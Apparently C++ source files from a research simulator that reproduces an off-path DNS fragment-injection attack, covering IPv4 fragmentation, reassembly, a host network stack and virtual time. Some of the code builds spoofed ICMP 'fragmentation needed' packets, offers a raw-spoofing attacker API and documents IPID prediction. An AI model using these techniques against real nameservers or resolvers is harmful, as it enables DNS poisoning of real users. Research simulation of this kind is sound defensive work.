  [[nodiscard]] u64 evicted_overflow() const { return evicted_overflow_; }
  [[nodiscard]] u64 expired() const { return expired_; }

 private:
  struct Key {
    Ipv4Addr src, dst;
    u8 proto;
    u16 id;
    friend auto operator<=>(const Key&, const Key&) = default;
  };
  struct Entry {
    sim::Time first_seen;
    /// offset-units -> payload slice. PacketBuf values alias the arriving
    /// fragments' buffers (refcount only, no byte copies); the single copy
    /// happens at completion, into one pooled output buffer.
    std::map<u16, PacketBuf> parts;
    bool have_last = false;
    std::size_t total_payload = 0;  ///< known once the MF=0 fragment arrives
  };
  /// (src,dst,proto) — the granularity the per-pair cap applies at (the
  /// IPID is what the attacker sprays, so it is *not* part of this key).
  struct PairKey {
    Ipv4Addr src, dst;
    u8 proto;
    friend auto operator<=>(const PairKey&, const PairKey&) = default;
  };

  std::optional<Ipv4Packet> try_complete(const Key& key, Entry& entry);
  [[nodiscard]] std::size_t count_pair(const Key& key) const;
  /// Erase an entry and keep pair_counts_ in sync; returns the next
  /// iterator so expire() can keep sweeping.
  std::map<Key, Entry>::iterator erase_entry(std::map<Key, Entry>::iterator it);

  ReassemblyPolicy policy_;
  std::map<Key, Entry> entries_;
  /// Incomplete datagrams per endpoint pair, maintained on insert/erase/
  /// expire. Keeping the count incrementally turns the per-datagram cap
  /// check from a full-cache scan (O(n²) under a fragment spray) into a
  /// lookup.
  std::map<PairKey, std::size_t> pair_counts_;
  u64 completed_ = 0;
  u64 evicted_overflow_ = 0;
  u64 expired_ = 0;
};

}  // namespace dnstime::net
