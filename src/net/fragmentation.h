// IPv4 fragmentation (RFC 791 sender side).
#pragma once

#include <vector>

#include "net/ipv4.h"

namespace dnstime::net {

/// Split `full` (an unfragmented packet) into fragments whose total IP
/// length does not exceed `mtu`. Fragment payload sizes are multiples of 8
/// except for the last fragment. Returns {full} unchanged if it fits.
/// Throws DecodeError if `mtu` cannot carry any payload (< 28 bytes) or the
/// packet has DF set and does not fit.
[[nodiscard]] std::vector<Ipv4Packet> fragment(const Ipv4Packet& full,
                                               u16 mtu);

/// Maximum payload bytes per fragment for a given MTU (8-byte aligned).
[[nodiscard]] constexpr std::size_t fragment_payload_capacity(u16 mtu) {
  if (mtu <= kIpv4HeaderSize) return 0;
  return (static_cast<std::size_t>(mtu) - kIpv4HeaderSize) / 8 * 8;
}

}  // namespace dnstime::net
