// ICMP "Destination Unreachable / Fragmentation Needed" (type 3 code 4).
//
// This is the message the attacker forges in §III-1 to trick a nameserver
// into fragmenting its DNS responses: the nameserver trusts the (spoofable)
// ICMP error, registers the advertised next-hop MTU for the embedded
// packet's destination, and subsequently emits fragmented responses.
#pragma once

#include "common/bytes.h"
#include "common/types.h"
#include "net/ipv4.h"

namespace dnstime::net {

inline constexpr u8 kIcmpDestUnreachable = 3;
inline constexpr u8 kIcmpCodeFragNeeded = 4;

struct IcmpFragNeeded {
  u16 mtu = 0;
  /// Embedded original IP header + first 8 payload bytes (RFC 792). The
  /// receiving host uses `orig_src`/`orig_dst` to find whose path MTU to
  /// update; a spoofed message only works if `orig_src` matches the victim
  /// host's own address.
  Ipv4Addr orig_src;
  Ipv4Addr orig_dst;
  u8 orig_protocol = kProtoUdp;
};

/// Encode a full ICMP message (type/code/checksum + MTU + embedded header).
[[nodiscard]] Bytes encode_icmp_frag_needed(const IcmpFragNeeded& msg);

/// Decode; throws DecodeError for anything but a well-formed type-3/code-4.
[[nodiscard]] IcmpFragNeeded decode_icmp_frag_needed(std::span<const u8> data);

/// Convenience: build the complete spoofed IP packet an attacker sends to
/// `target` claiming that packets from `orig_src` to `orig_dst` require
/// fragmentation to `mtu`. The IP source is the pretend router address.
[[nodiscard]] Ipv4Packet make_frag_needed_packet(Ipv4Addr router,
                                                 Ipv4Addr target,
                                                 Ipv4Addr orig_src,
                                                 Ipv4Addr orig_dst, u16 mtu);

}  // namespace dnstime::net
