#include "net/icmp.h"

#include "net/checksum.h"

namespace dnstime::net {

namespace {

void write_icmp_frag_needed(ByteWriter& w, const IcmpFragNeeded& msg) {
  w.write_u8(kIcmpDestUnreachable);
  w.write_u8(kIcmpCodeFragNeeded);
  w.write_u16(0);  // checksum placeholder
  w.write_u16(0);  // unused
  w.write_u16(msg.mtu);
  // Embedded original IPv4 header (RFC 792 requires header + 64 bits of
  // payload). We embed a synthetic header carrying the fields receivers
  // actually consult.
  Ipv4Packet orig;
  orig.src = msg.orig_src;
  orig.dst = msg.orig_dst;
  orig.protocol = msg.orig_protocol;
  orig.payload.assign(8, 0);
  w.write_bytes(encode_buf(orig));
  w.patch_u16(2, internet_checksum(w.data()));
}

}  // namespace

Bytes encode_icmp_frag_needed(const IcmpFragNeeded& msg) {
  ByteWriter w;
  write_icmp_frag_needed(w, msg);
  return std::move(w).take();
}

IcmpFragNeeded decode_icmp_frag_needed(std::span<const u8> data) {
  if (internet_checksum(data) != 0) throw DecodeError("bad ICMP checksum");
  ByteReader r(data);
  u8 type = r.read_u8();
  u8 code = r.read_u8();
  if (type != kIcmpDestUnreachable || code != kIcmpCodeFragNeeded) {
    throw DecodeError("not fragmentation-needed");
  }
  (void)r.read_u16();  // checksum
  (void)r.read_u16();  // unused
  IcmpFragNeeded msg;
  msg.mtu = r.read_u16();
  Ipv4Packet orig = decode_ipv4(r.raw().subspan(r.pos()));
  msg.orig_src = orig.src;
  msg.orig_dst = orig.dst;
  msg.orig_protocol = orig.protocol;
  return msg;
}

Ipv4Packet make_frag_needed_packet(Ipv4Addr router, Ipv4Addr target,
                                   Ipv4Addr orig_src, Ipv4Addr orig_dst,
                                   u16 mtu) {
  Ipv4Packet pkt;
  pkt.src = router;
  pkt.dst = target;
  pkt.protocol = kProtoIcmp;
  ByteWriter w;
  write_icmp_frag_needed(w, IcmpFragNeeded{.mtu = mtu, .orig_src = orig_src,
                                           .orig_dst = orig_dst});
  pkt.payload = std::move(w).take_buf();
  return pkt;
}

}  // namespace dnstime::net
