// Per-host network stack: UDP sockets, IPID assignment, path-MTU table
// (PMTUD), fragmentation on send, reassembly on receive, and ICMP handling.
//
// Every protocol-relevant OS behaviour the paper depends on is a Config
// knob here:
//  * IPID assignment mode — globally sequential counters are what makes
//    §III-2 IPID prediction work;
//  * PMTUD acceptance of (spoofable) ICMP frag-needed and the minimum MTU a
//    stack will honour — the per-nameserver "minimum fragment size" of
//    Fig. 5 / §VII-B;
//  * fragment acceptance policy — the resolver-side attack surface measured
//    in Table V and §VIII-A2 (e.g. Google's resolvers filter small frags);
//  * reassembly timeout / cache caps — §IV-A boot-time attack economics.
#pragma once

#include <functional>
#include <unordered_map>

#include "common/rng.h"
#include "net/fragmentation.h"
#include "net/icmp.h"
#include "net/reassembly.h"
#include "net/udp.h"
#include "sim/network.h"

namespace dnstime::net {

enum class IpidMode {
  kGlobalSequential,  ///< one counter for all destinations (predictable)
  kPerDestination,    ///< per-destination counters (harder to probe)
  kRandom,            ///< random per packet (prediction infeasible)
};

struct StackConfig {
  IpidMode ipid_mode = IpidMode::kGlobalSequential;
  u16 default_mtu = kEthernetMtu;
  /// Accept ICMP frag-needed and register the advertised path MTU.
  bool honor_icmp_frag_needed = true;
  /// Lowest MTU this stack will register from an ICMP error; the effective
  /// minimum fragment size a remote attacker can induce.
  u16 min_pmtu = kMinimumMtu;
  /// Accept and reassemble incoming fragments at all.
  bool accept_fragments = true;
  /// Drop fragmented datagrams whose first fragment is smaller than this
  /// (models resolvers that filter "tiny" fragments).
  u16 min_first_fragment_size = 0;
  ReassemblyPolicy reassembly;
  /// Provenance tag stamped onto every payload this stack emits (see
  /// common/origin.h); scenario::World sets one per simulated role.
  OriginModule origin_module = OriginModule::kUnknown;
};

/// (address, port) source of a received datagram.
struct UdpEndpoint {
  Ipv4Addr addr;
  u16 port = 0;
  friend auto operator<=>(const UdpEndpoint&, const UdpEndpoint&) = default;
};

class NetStack : public sim::PacketSink {
 public:
  /// `payload` is a non-owning view into the delivered (possibly
  /// reassembled) datagram; it is valid only for the duration of the call.
  /// Handlers that keep bytes must copy (`payload.to_bytes()`) — see
  /// src/net/README.md for the ownership rules.
  using UdpHandler = std::function<void(const UdpEndpoint& from,
                                        u16 local_port, BufView payload)>;

  NetStack(sim::Network& net, Ipv4Addr addr, StackConfig config, Rng rng);
  ~NetStack() override;

  NetStack(const NetStack&) = delete;
  NetStack& operator=(const NetStack&) = delete;

  [[nodiscard]] Ipv4Addr addr() const { return addr_; }
  [[nodiscard]] sim::Time now() const { return net_.loop().now(); }
  [[nodiscard]] sim::EventLoop& loop() { return net_.loop(); }
  [[nodiscard]] sim::Network& network() { return net_; }
  [[nodiscard]] Rng& rng() { return rng_; }
  [[nodiscard]] const StackConfig& config() const { return config_; }

  void bind_udp(u16 port, UdpHandler handler);
  void unbind_udp(u16 port);
  /// Pick an unused ephemeral port uniformly at random (the resolver's
  /// source-port randomisation defence draws from here).
  [[nodiscard]] u16 ephemeral_port();

  /// Send a UDP datagram from this host, fragmenting per the path MTU
  /// registered for `dst`. The UDP header is prepended into the payload
  /// buffer's headroom (zero-copy for ByteWriter-built payloads; a `Bytes`
  /// argument converts with one pooled copy).
  void send_udp(Ipv4Addr dst, u16 src_port, u16 dst_port, PacketBuf payload);

  /// Send a UDP datagram deliberately fragmented to `mtu`, regardless of
  /// the path MTU. Models the study nameserver of §VIII-B1 which "always
  /// responds to DNS requests with fragmented packets, even if the size is
  /// way below the maximum MTU of the path".
  void send_udp_fragmented(Ipv4Addr dst, u16 src_port, u16 dst_port,
                           PacketBuf payload, u16 mtu);

  /// Attacker API: inject a fully attacker-controlled packet (any source
  /// address, any fragment fields). This models raw-socket spoofing.
  void send_raw(Ipv4Packet pkt);

  /// sim::PacketSink
  void deliver(const Ipv4Packet& pkt) override;

  /// Raw-packet observation for traffic addressed to this host (the
  /// attacker reads response IPIDs through this; §III-2 IPID prediction).
  /// Returns a token for remove_packet_tap.
  using PacketTap = std::function<void(const Ipv4Packet&)>;
  u64 add_packet_tap(PacketTap tap);
  void remove_packet_tap(u64 token);

  [[nodiscard]] u16 path_mtu(Ipv4Addr dst) const;
  [[nodiscard]] u16 current_ipid() const { return ipid_global_; }
  /// Observed counters, used by tests and measurement tooling. Kept as
  /// plain members on the packet hot path; ~NetStack folds them (plus the
  /// reassembly-cache counters) into the obs registry under net.*.
  [[nodiscard]] u64 udp_rx() const { return udp_rx_; }
  [[nodiscard]] u64 udp_checksum_failures() const { return udp_bad_csum_; }
  [[nodiscard]] u64 fragments_rx() const { return fragments_rx_; }
  [[nodiscard]] u64 fragments_dropped() const { return fragments_dropped_; }
  [[nodiscard]] u64 packets_tx() const { return packets_tx_; }
  [[nodiscard]] u64 fragments_tx() const { return fragments_tx_; }
  [[nodiscard]] u64 datagrams_fragmented() const {
    return datagrams_fragmented_;
  }
  [[nodiscard]] ReassemblyCache& reassembly_cache() { return reasm_; }

 private:
  void handle_transport(const Ipv4Packet& pkt);
  void handle_icmp(const Ipv4Packet& pkt);
  [[nodiscard]] u16 next_ipid(Ipv4Addr dst);
  void schedule_expiry();

  sim::Network& net_;
  Ipv4Addr addr_;
  StackConfig config_;
  Rng rng_;
  ReassemblyCache reasm_;
  std::unordered_map<u16, UdpHandler> udp_handlers_;
  std::unordered_map<u64, PacketTap> taps_;
  u64 next_tap_token_ = 1;
  std::unordered_map<Ipv4Addr, u16> path_mtu_;
  std::unordered_map<Ipv4Addr, u16> ipid_per_dst_;
  u16 ipid_global_;
  u64 udp_rx_ = 0;
  u64 udp_bad_csum_ = 0;
  u64 fragments_rx_ = 0;
  u64 fragments_dropped_ = 0;
  u64 packets_tx_ = 0;
  u64 fragments_tx_ = 0;
  u64 datagrams_fragmented_ = 0;
  sim::EventHandle expiry_event_;
  bool destroyed_ = false;
};

}  // namespace dnstime::net
