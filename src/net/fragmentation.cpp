#include "net/fragmentation.h"

#include "common/bytes.h"

namespace dnstime::net {

std::vector<Ipv4Packet> fragment(const Ipv4Packet& full, u16 mtu) {
  if (full.is_fragment()) throw DecodeError("refusing to re-fragment");
  if (full.total_length() <= mtu) return {full};
  if (full.dont_fragment) throw DecodeError("DF set but packet exceeds MTU");
  std::size_t chunk = fragment_payload_capacity(mtu);
  if (chunk == 0) throw DecodeError("MTU too small to fragment");

  std::vector<Ipv4Packet> frags;
  std::size_t offset = 0;
  while (offset < full.payload.size()) {
    std::size_t take = std::min(chunk, full.payload.size() - offset);
    Ipv4Packet f;
    f.src = full.src;
    f.dst = full.dst;
    f.id = full.id;
    f.ttl = full.ttl;
    f.protocol = full.protocol;
    f.frag_offset_units = static_cast<u16>(offset / 8);
    // Zero-copy: each fragment's payload aliases the parent datagram's
    // buffer (refcounted slice), so a spray of fragments shares one block.
    f.payload = full.payload.slice(offset, take);
    offset += take;
    f.more_fragments = offset < full.payload.size();
    frags.push_back(std::move(f));
  }
  return frags;
}

}  // namespace dnstime::net
