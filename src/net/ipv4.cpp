#include "net/ipv4.h"

#include "net/checksum.h"

namespace dnstime::net {

namespace {

void write_ipv4(ByteWriter& w, const Ipv4Packet& pkt) {
  w.write_u8(0x45);  // version 4, IHL 5 (no options)
  w.write_u8(0);     // DSCP/ECN
  w.write_u16(static_cast<u16>(pkt.total_length()));
  w.write_u16(pkt.id);
  u16 flags_frag = pkt.frag_offset_units & 0x1FFF;
  if (pkt.dont_fragment) flags_frag |= 0x4000;
  if (pkt.more_fragments) flags_frag |= 0x2000;
  w.write_u16(flags_frag);
  w.write_u8(pkt.ttl);
  w.write_u8(pkt.protocol);
  w.write_u16(0);  // checksum placeholder
  w.write_u32(pkt.src.value());
  w.write_u32(pkt.dst.value());
  u16 csum = internet_checksum(w.data().subspan(0, kIpv4HeaderSize));
  w.patch_u16(10, csum);
  w.write_bytes(pkt.payload);
}

}  // namespace

Bytes encode(const Ipv4Packet& pkt) {
  ByteWriter w;
  write_ipv4(w, pkt);
  return std::move(w).take();
}

PacketBuf encode_buf(const Ipv4Packet& pkt) {
  ByteWriter w;
  write_ipv4(w, pkt);
  return std::move(w).take_buf();
}

Ipv4Packet decode_ipv4(std::span<const u8> data) {
  ByteReader r(data);
  u8 ver_ihl = r.read_u8();
  if ((ver_ihl >> 4) != 4) throw DecodeError("not IPv4");
  std::size_t header_len = std::size_t{static_cast<u8>(ver_ihl & 0x0F)} * 4;
  if (header_len < kIpv4HeaderSize) throw DecodeError("bad IHL");
  if (data.size() < header_len) throw DecodeError("truncated header");
  if (internet_checksum(data.subspan(0, header_len)) != 0) {
    throw DecodeError("bad IPv4 header checksum");
  }
  (void)r.read_u8();  // DSCP/ECN
  u16 total_len = r.read_u16();
  if (total_len < header_len || total_len > data.size()) {
    throw DecodeError("bad total length");
  }
  Ipv4Packet pkt;
  pkt.id = r.read_u16();
  u16 flags_frag = r.read_u16();
  pkt.dont_fragment = (flags_frag & 0x4000) != 0;
  pkt.more_fragments = (flags_frag & 0x2000) != 0;
  pkt.frag_offset_units = flags_frag & 0x1FFF;
  pkt.ttl = r.read_u8();
  pkt.protocol = r.read_u8();
  (void)r.read_u16();  // checksum, verified above
  pkt.src = Ipv4Addr{r.read_u32()};
  pkt.dst = Ipv4Addr{r.read_u32()};
  r.seek(header_len);
  pkt.payload =
      PacketBuf::copy_of(data.subspan(header_len, total_len - header_len));
  return pkt;
}

}  // namespace dnstime::net
