#include "net/reassembly.h"

#include <algorithm>
#include <cstring>

#include "obs/provenance.h"

namespace dnstime::net {

std::optional<Ipv4Packet> ReassemblyCache::insert(const Ipv4Packet& frag,
                                                  sim::Time now) {
  Key key{frag.src, frag.dst, frag.protocol, frag.id};
  auto it = entries_.find(key);
  if (it == entries_.end()) {
    if (count_pair(key) >= policy_.max_datagrams_per_pair) {
      // Per-pair overflow: the OS refuses to cache more incomplete
      // datagrams for this endpoint pair. The attacker's spray width is
      // bounded by this.
      evicted_overflow_++;
      return std::nullopt;
    }
    Entry fresh;
    fresh.first_seen = now;
    it = entries_.emplace(key, std::move(fresh)).first;
    pair_counts_[PairKey{key.src, key.dst, key.proto}]++;
  }
  Entry& entry = it->second;

  // First arrival wins for a given offset: a spoofed fragment already in
  // the cache is *not* displaced by the genuine one.
  if (!entry.parts.contains(frag.frag_offset_units)) {
    entry.parts.emplace(frag.frag_offset_units, frag.payload);
    if (!frag.more_fragments) {
      entry.have_last = true;
      entry.total_payload = frag.frag_offset_bytes() + frag.payload.size();
    }
  }

  auto done = try_complete(key, entry);
  if (done) {
    DNSTIME_PROV_EVENT(reassembled(now.ns(), done->payload.origin(),
                                   done->payload.size(),
                                   it->second.parts.size()));
    erase_entry(it);
  }
  return done;
}

std::optional<Ipv4Packet> ReassemblyCache::try_complete(const Key& key,
                                                        Entry& entry) {
  if (!entry.have_last) return std::nullopt;
  // Check contiguous coverage [0, total_payload).
  std::size_t covered = 0;
  for (const auto& [offset_units, part] : entry.parts) {
    std::size_t start = std::size_t{offset_units} * 8;
    if (start > covered) return std::nullopt;  // hole
    covered = std::max(covered, start + part.size());
  }
  if (covered < entry.total_payload) return std::nullopt;

  Ipv4Packet full;
  full.src = key.src;
  full.dst = key.dst;
  full.protocol = key.proto;
  full.id = key.id;
  // Assemble directly into one pooled buffer. Uninitialised is safe: the
  // coverage check above proved the parts tile [0, total_payload) without
  // holes, so every byte is written below (overlaps resolve in ascending
  // offset order, same as the wire semantics of duplicate coverage).
  full.payload = PacketBuf::uninitialized(entry.total_payload);
  // The merged datagram inherits the dominant part's provenance: a spoofed
  // part wins (that contamination is the whole point of the paper's
  // fragment attack), otherwise the first fragment's stamp. Either way the
  // reassembled flag marks that this payload was stitched from fragments.
  {
    const PacketBuf* dominant = nullptr;
    for (const auto& [offset_units, part] : entry.parts) {
      if (dominant == nullptr) dominant = &part;
      if (part.origin().spoofed()) {
        dominant = &part;
        break;
      }
    }
    Origin merged = dominant->origin();
    merged.flags |= Origin::kReassembled;
    full.payload.set_origin(merged);
  }
  u8* out = full.payload.data();
  for (const auto& [offset_units, part] : entry.parts) {
    std::size_t start = std::size_t{offset_units} * 8;
    // A part can start at/after the datagram end (a crafted fragment that
    // overlaps past a shorter genuine last fragment); offsets ascend, so
    // nothing further contributes. (The old copy path underflowed
    // `total - start` here and wrote out of bounds.)
    if (start >= entry.total_payload) break;
    std::size_t n = std::min(part.size(), entry.total_payload - start);
    if (n != 0) std::memcpy(out + start, part.data(), n);
  }
  completed_++;
  return full;
}

void ReassemblyCache::expire(sim::Time now) {
  for (auto it = entries_.begin(); it != entries_.end();) {
    if (now - it->second.first_seen >= policy_.timeout) {
      it = erase_entry(it);
      expired_++;
    } else {
      ++it;
    }
  }
}

std::size_t ReassemblyCache::count_pair(const Key& key) const {
  auto it = pair_counts_.find(PairKey{key.src, key.dst, key.proto});
  return it == pair_counts_.end() ? 0 : it->second;
}

std::map<ReassemblyCache::Key, ReassemblyCache::Entry>::iterator
ReassemblyCache::erase_entry(std::map<Key, Entry>::iterator it) {
  auto cit = pair_counts_.find(
      PairKey{it->first.src, it->first.dst, it->first.proto});
  if (cit != pair_counts_.end() && --cit->second == 0) {
    pair_counts_.erase(cit);
  }
  return entries_.erase(it);
}

}  // namespace dnstime::net
