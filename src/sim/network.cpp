#include "sim/network.h"

#include <utility>

namespace dnstime::sim {

void Network::send(net::Ipv4Packet&& pkt) {
  packets_sent_++;
  const LinkProfile& link = profile_for(pkt.src, pkt.dst);
  if (link.loss > 0.0 && rng_.chance(link.loss)) return;

  Duration delay = link.latency;
  if (link.jitter > Duration::millis(0)) {
    delay = delay + Duration::nanos(static_cast<i64>(
                        rng_.uniform(0, static_cast<u64>(link.jitter.ns()))));
  }
  // Move the packet into the event: the payload changes hands once at
  // send() (the const& overload copies there for senders that keep
  // theirs), then travels by move through the queue to delivery.
  loop_.schedule_after(delay, [this, pkt = std::move(pkt)] {
    auto it = sinks_.find(pkt.dst);
    if (it == sinks_.end()) return;  // unreachable host: silent drop
    packets_delivered_++;
    it->second->deliver(pkt);
  });
}

}  // namespace dnstime::sim
