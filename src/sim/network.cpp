#include "sim/network.h"

namespace dnstime::sim {

void Network::send(const net::Ipv4Packet& pkt) {
  packets_sent_++;
  const LinkProfile& link = profile_for(pkt.src, pkt.dst);
  if (link.loss > 0.0 && rng_.chance(link.loss)) return;

  Duration delay = link.latency;
  if (link.jitter > Duration::millis(0)) {
    delay = delay + Duration::nanos(static_cast<i64>(
                        rng_.uniform(0, static_cast<u64>(link.jitter.ns()))));
  }
  // Copy the packet into the event; senders may mutate or free theirs.
  loop_.schedule_after(delay, [this, pkt] {
    auto it = sinks_.find(pkt.dst);
    if (it == sinks_.end()) return;  // unreachable host: silent drop
    packets_delivered_++;
    it->second->deliver(pkt);
  });
}

}  // namespace dnstime::sim
