// Virtual time for the discrete-event simulator.
//
// All protocol behaviour in this library is driven by simulated time, never
// by the host clock: reassembly timeouts, DNS TTLs, NTP poll intervals and
// the "attack duration" results of Table II are all measured on this clock.
#pragma once

#include <compare>
#include <cstdint>
#include <limits>
#include <string>

#include "common/types.h"

namespace dnstime::sim {

namespace detail {

/// Saturating i64 arithmetic for time math. Poll timers scheduled at hour
/// horizons (or Duration::hours on an already-large count) would otherwise
/// hit signed-overflow UB; clamping to the representable range keeps every
/// in-range value bit-identical and turns the out-of-range cases into
/// "effectively never" / "effectively forever" instead of UB.
[[nodiscard]] constexpr i64 sat_add(i64 a, i64 b) {
  i64 out = 0;
  if (__builtin_add_overflow(a, b, &out)) {
    return b > 0 ? std::numeric_limits<i64>::max()
                 : std::numeric_limits<i64>::min();
  }
  return out;
}

[[nodiscard]] constexpr i64 sat_sub(i64 a, i64 b) {
  i64 out = 0;
  if (__builtin_sub_overflow(a, b, &out)) {
    return b < 0 ? std::numeric_limits<i64>::max()
                 : std::numeric_limits<i64>::min();
  }
  return out;
}

[[nodiscard]] constexpr i64 sat_mul(i64 a, i64 b) {
  i64 out = 0;
  if (__builtin_mul_overflow(a, b, &out)) {
    return ((a > 0) == (b > 0)) ? std::numeric_limits<i64>::max()
                                : std::numeric_limits<i64>::min();
  }
  return out;
}

}  // namespace detail

/// A span of virtual time, nanosecond resolution. Construction and
/// arithmetic saturate at the i64 nanosecond range (~±292 years) instead of
/// overflowing.
class Duration {
 public:
  constexpr Duration() = default;
  [[nodiscard]] static constexpr Duration nanos(i64 n) { return Duration{n}; }
  [[nodiscard]] static constexpr Duration micros(i64 n) {
    return Duration{detail::sat_mul(n, 1'000)};
  }
  [[nodiscard]] static constexpr Duration millis(i64 n) {
    return Duration{detail::sat_mul(n, 1'000'000)};
  }
  [[nodiscard]] static constexpr Duration seconds(i64 n) {
    return Duration{detail::sat_mul(n, 1'000'000'000)};
  }
  [[nodiscard]] static constexpr Duration minutes(i64 n) {
    return Duration{detail::sat_mul(n, 60LL * 1'000'000'000)};
  }
  [[nodiscard]] static constexpr Duration hours(i64 n) {
    return Duration{detail::sat_mul(n, 3'600LL * 1'000'000'000)};
  }
  [[nodiscard]] static constexpr Duration from_seconds_f(double s) {
    const double ns = s * 1e9;
    if (ns != ns) return Duration{0};  // NaN carries no meaningful span.
    if (ns >= 9223372036854775808.0) {
      return Duration{std::numeric_limits<i64>::max()};
    }
    if (ns <= -9223372036854775808.0) {
      return Duration{std::numeric_limits<i64>::min()};
    }
    return Duration{static_cast<i64>(ns)};
  }

  [[nodiscard]] constexpr i64 ns() const { return ns_; }
  [[nodiscard]] constexpr double to_seconds() const {
    return static_cast<double>(ns_) / 1e9;
  }
  [[nodiscard]] constexpr double to_millis() const {
    return static_cast<double>(ns_) / 1e6;
  }

  friend constexpr Duration operator+(Duration a, Duration b) {
    return Duration{detail::sat_add(a.ns_, b.ns_)};
  }
  friend constexpr Duration operator-(Duration a, Duration b) {
    return Duration{detail::sat_sub(a.ns_, b.ns_)};
  }
  friend constexpr Duration operator*(Duration a, i64 k) {
    return Duration{detail::sat_mul(a.ns_, k)};
  }
  friend constexpr Duration operator/(Duration a, i64 k) {
    // i64 min / -1 is the one overflowing division.
    if (a.ns_ == std::numeric_limits<i64>::min() && k == -1) {
      return Duration{std::numeric_limits<i64>::max()};
    }
    return Duration{a.ns_ / k};
  }
  friend constexpr auto operator<=>(Duration, Duration) = default;

 private:
  constexpr explicit Duration(i64 ns) : ns_(ns) {}
  i64 ns_ = 0;
};

/// An absolute point on the simulation clock (ns since simulation start).
class Time {
 public:
  constexpr Time() = default;
  [[nodiscard]] static constexpr Time from_ns(i64 ns) { return Time{ns}; }

  [[nodiscard]] constexpr i64 ns() const { return ns_; }
  [[nodiscard]] constexpr double to_seconds() const {
    return static_cast<double>(ns_) / 1e9;
  }

  friend constexpr Time operator+(Time t, Duration d) {
    return Time{detail::sat_add(t.ns_, d.ns())};
  }
  friend constexpr Time operator-(Time t, Duration d) {
    return Time{detail::sat_sub(t.ns_, d.ns())};
  }
  friend constexpr Duration operator-(Time a, Time b) {
    return Duration::nanos(detail::sat_sub(a.ns_, b.ns_));
  }
  friend constexpr auto operator<=>(Time, Time) = default;

  [[nodiscard]] std::string to_string() const {
    i64 total_s = ns_ / 1'000'000'000;
    i64 ms = (ns_ / 1'000'000) % 1000;
    char buf[48];
    std::snprintf(buf, sizeof buf, "%lld.%03llds",
                  static_cast<long long>(total_s), static_cast<long long>(ms));
    return buf;
  }

 private:
  constexpr explicit Time(i64 ns) : ns_(ns) {}
  i64 ns_ = 0;
};

}  // namespace dnstime::sim
