// Virtual time for the discrete-event simulator.
//
// All protocol behaviour in this library is driven by simulated time, never
// by the host clock: reassembly timeouts, DNS TTLs, NTP poll intervals and
// the "attack duration" results of Table II are all measured on this clock.
#pragma once

#include <compare>
#include <cstdint>
#include <string>

#include "common/types.h"

namespace dnstime::sim {

/// A span of virtual time, nanosecond resolution.
class Duration {
 public:
  constexpr Duration() = default;
  [[nodiscard]] static constexpr Duration nanos(i64 n) { return Duration{n}; }
  [[nodiscard]] static constexpr Duration micros(i64 n) {
    return Duration{n * 1'000};
  }
  [[nodiscard]] static constexpr Duration millis(i64 n) {
    return Duration{n * 1'000'000};
  }
  [[nodiscard]] static constexpr Duration seconds(i64 n) {
    return Duration{n * 1'000'000'000};
  }
  [[nodiscard]] static constexpr Duration minutes(i64 n) {
    return seconds(n * 60);
  }
  [[nodiscard]] static constexpr Duration hours(i64 n) {
    return minutes(n * 60);
  }
  [[nodiscard]] static constexpr Duration from_seconds_f(double s) {
    return Duration{static_cast<i64>(s * 1e9)};
  }

  [[nodiscard]] constexpr i64 ns() const { return ns_; }
  [[nodiscard]] constexpr double to_seconds() const {
    return static_cast<double>(ns_) / 1e9;
  }
  [[nodiscard]] constexpr double to_millis() const {
    return static_cast<double>(ns_) / 1e6;
  }

  friend constexpr Duration operator+(Duration a, Duration b) {
    return Duration{a.ns_ + b.ns_};
  }
  friend constexpr Duration operator-(Duration a, Duration b) {
    return Duration{a.ns_ - b.ns_};
  }
  friend constexpr Duration operator*(Duration a, i64 k) {
    return Duration{a.ns_ * k};
  }
  friend constexpr Duration operator/(Duration a, i64 k) {
    return Duration{a.ns_ / k};
  }
  friend constexpr auto operator<=>(Duration, Duration) = default;

 private:
  constexpr explicit Duration(i64 ns) : ns_(ns) {}
  i64 ns_ = 0;
};

/// An absolute point on the simulation clock (ns since simulation start).
class Time {
 public:
  constexpr Time() = default;
  [[nodiscard]] static constexpr Time from_ns(i64 ns) { return Time{ns}; }

  [[nodiscard]] constexpr i64 ns() const { return ns_; }
  [[nodiscard]] constexpr double to_seconds() const {
    return static_cast<double>(ns_) / 1e9;
  }

  friend constexpr Time operator+(Time t, Duration d) {
    return Time{t.ns_ + d.ns()};
  }
  friend constexpr Time operator-(Time t, Duration d) {
    return Time{t.ns_ - d.ns()};
  }
  friend constexpr Duration operator-(Time a, Time b) {
    return Duration::nanos(a.ns_ - b.ns_);
  }
  friend constexpr auto operator<=>(Time, Time) = default;

  [[nodiscard]] std::string to_string() const {
    i64 total_s = ns_ / 1'000'000'000;
    i64 ms = (ns_ / 1'000'000) % 1000;
    char buf[48];
    std::snprintf(buf, sizeof buf, "%lld.%03llds",
                  static_cast<long long>(total_s), static_cast<long long>(ms));
    return buf;
  }

 private:
  constexpr explicit Time(i64 ns) : ns_(ns) {}
  i64 ns_ = 0;
};

}  // namespace dnstime::sim
