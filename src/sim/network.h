// Simulated IPv4 internet.
//
// The Network connects NetStacks (one per simulated host) through links
// with configurable one-way latency, jitter and loss. Delivery is by
// destination address only — the network does not validate source
// addresses, which is exactly the property that makes off-path spoofing
// attacks (forged ICMP errors, spoofed NTP mode-3 floods, injected DNS
// fragments) possible on the real Internet and in this simulator.
//
// Off-path threat model: an attacker host can *send* arbitrary raw packets
// but only *receives* traffic addressed to one of its own addresses. There
// is no promiscuous mode.
#pragma once

#include <functional>
#include <optional>
#include <unordered_map>

#include "common/rng.h"
#include "common/types.h"
#include "net/ipv4.h"
#include "sim/event_loop.h"

namespace dnstime::sim {

/// Per-destination-pair link characteristics.
struct LinkProfile {
  Duration latency = Duration::millis(10);
  Duration jitter = Duration::millis(0);  ///< uniform extra delay in [0, jitter]
  double loss = 0.0;                      ///< independent per-packet loss prob.
};

/// Receives packets addressed to a registered address. NetStack implements
/// this; tests can register lightweight observers directly.
class PacketSink {
 public:
  virtual ~PacketSink() = default;
  virtual void deliver(const net::Ipv4Packet& pkt) = 0;
};

class Network {
 public:
  Network(EventLoop& loop, Rng rng) : loop_(loop), rng_(std::move(rng)) {}

  void attach(Ipv4Addr addr, PacketSink* sink) { sinks_[addr] = sink; }
  void detach(Ipv4Addr addr) { sinks_.erase(addr); }

  /// Default characteristics for links without an explicit profile.
  void set_default_profile(LinkProfile p) { default_profile_ = p; }
  /// Override the path src->dst (directional).
  void set_profile(Ipv4Addr src, Ipv4Addr dst, LinkProfile p) {
    profiles_[key(src, dst)] = p;
  }

  /// Inject a packet into the network. `pkt.src` is taken at face value —
